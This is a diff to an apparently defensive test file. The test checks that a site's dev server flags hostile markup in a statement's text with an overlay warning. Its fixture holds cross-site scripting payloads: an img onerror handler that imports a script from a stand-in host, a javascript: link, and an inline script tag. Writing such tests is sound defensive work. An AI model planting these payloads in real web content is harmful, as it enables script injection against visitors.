@@ -14,7 +14,8 @@ import { renderMarkdown } from '../support/render-markdown.ts';
 
 const statement = '2019-guatemala-border-externalization';
 const hostile = [
-  `Hello <img src=x onerror="window.__ran='img';import('//e.x/p.js')"> world,`,
+  // Short enough for the validator to quote whole (it shortens tags beyond 60 characters).
+  `Hello <img src=x onerror="window.__ran=1;import('//e.x/p.js')"> world,`,
   `a [link](javascript:window.__ran='link') and <script>window.__ran='script'</script> more.`,
 ].join(' ');
 
@@ -66,7 +67,7 @@ describe('npm run dev with a hostile statement', () => {
     const { page, foreign } = await watchedPage(browser, server.url);
     await page.goto(`${server.url}/statements/${statement}/`);
     const message = await overlayMessage(page);
-    expect(message.text).toContain(`The text contains the HTML <img src=x onerror="window.__ran='img';import('//e.x/p.js')">`);
+    expect(message.text).toContain(`The text contains the HTML <img src=x onerror="window.__ran=1;import('//e.x/p.js')">: its on… attribute`);
     expect(message.text).toContain('A link address starts with "javascript:"');
     // The overlay turns https:// words into links itself; nothing else is an element.
     expect(message.elements.filter((tag) => tag !== 'a')).toEqual([]);
